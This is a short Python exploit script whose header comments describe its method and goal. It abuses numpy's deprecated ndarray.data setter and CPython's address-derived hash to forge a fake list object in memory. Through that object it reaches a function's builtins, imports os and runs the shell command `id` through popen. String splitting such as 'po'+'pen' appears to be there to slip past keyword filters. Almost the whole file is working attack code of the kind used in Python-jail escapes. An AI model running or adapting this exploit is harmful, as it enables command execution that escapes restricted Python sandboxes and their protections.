# source: numpy ndarray.data setter (numpy getset.c array_data_set, deprecated since 1.12 but live in 1.24) + CPython default hash = rotated object address (_Py_HashPointer) + fake PyListObject technique from pyjail/CTF write-ups
# family: numpy object-array memory: class derived from np.recarray assigns self.data; type/function addresses from hash() instead of id()
# goal: forge a list over a function's globals/builtins pointers -> builtins __import__ -> os -> output of `id`
import numpy as np


class Frame(np.recarray):
    def attach(self, raw):
        self.data = raw
        return self


def where(obj):
    h = hash(obj) % (1 << 64)
    return ((h << 4) | (h >> 60)) % (1 << 64)


def spot(obj):
    cell = np.empty(1, dtype=object)
    cell[0] = obj
    return int.from_bytes(cell.tobytes(), "little")


def signal():
    return 1.0


keep = []
img = (1 << 40).to_bytes(8, "little") + where(list).to_bytes(8, "little") \
    + (2).to_bytes(8, "little") + (where(signal) + 16).to_bytes(8, "little") \
    + (2).to_bytes(8, "little")
keep.append(img)
raw = bytearray((spot(img) + 32).to_bytes(8, "little"))
keep.append(raw)
view = np.empty(1, dtype=object).view(Frame).attach(raw)
lst = view[0]
bdict = lst[1]
loader = bdict["_" * 2 + "import" + "_" * 2]
osmod = loader("os")
print(osmod)
fetch = bdict["get" + "attr"]
pipe = fetch(osmod, "po" + "pen")("id")
print(pipe.read())
